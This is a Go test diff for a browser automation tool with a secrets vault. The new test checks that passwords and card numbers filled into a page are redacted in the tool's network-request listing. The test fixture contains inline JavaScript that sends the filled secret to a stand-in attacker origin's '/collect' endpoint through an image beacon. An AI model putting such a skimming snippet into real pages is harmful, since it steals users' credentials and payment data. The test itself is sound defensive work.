@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"browser-mcp/cdp/browser"
+	"browser-mcp/internal/site"
 	"browser-mcp/vault"
 )
 
@@ -93,6 +94,33 @@ func TestThreatQueryIsWithheldAfterAFill(t *testing.T) {
 	}
 	if !r.site.Received(r.site.Shop, signInPassword) {
 		t.Errorf("the page did not send %q", url.QueryEscape("its value"))
+	}
+}
+
+// A page sends what was filled to an origin that never was, in a query: only a key would be compared there, but the
+// request is the filled page's word, and says a password or a card as plainly as a paragraph.
+func TestThreatQueryToAnotherOriginIsRedacted(t *testing.T) {
+	for kind, value := range map[vault.Kind]string{vault.Password: "Tr0ub4dor&3xy", vault.Card: "4242424242424242"} {
+		r := newRig(t).withSite()
+		r.site.Page("/pixel.html", `<label>Value <input type=password id=field></label><a href="{{evil}}/">Out</a>
+<button onclick="const to = '{{evil}}/collect?v=' + encodeURIComponent(field.value) + '#' + field.value;
+document.querySelector('a').href = to; new Image().src = to; document.title = 'Sent'">Send</button>`)
+		r.shelf.put("it", kind, value, "sbm:origin", r.site.Shop, "sbm:selector", "#field")
+		a := r.connect()
+		a.clean(value)
+		a.call("navigate", map[string]any{"url": r.site.Shop + "/pixel.html"})
+		view := a.look()
+		a.call("fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, view, `input password`)})
+		a.call("click", map[string]any{"element_uid": uid(t, view, `button "Send"`)})
+		a.call("wait_for", map[string]any{"text": "Sent"})
+		if _, err := r.site.Await(t.Context(), func(q site.Request) bool { return q.Origin == r.site.Evil && q.Contains(value) }); err != nil {
+			t.Fatalf("%s: %v", kind, err)
+		}
+		list := a.call("list_network_requests", nil).Text()
+		if !strings.Contains(list, r.site.Evil+"/collect?v=[") {
+			t.Errorf("%s: requests = %s, want the query's value hidden", kind, list)
+		}
+		a.call("snapshot", map[string]any{"format": "json"})
 	}
 }
 
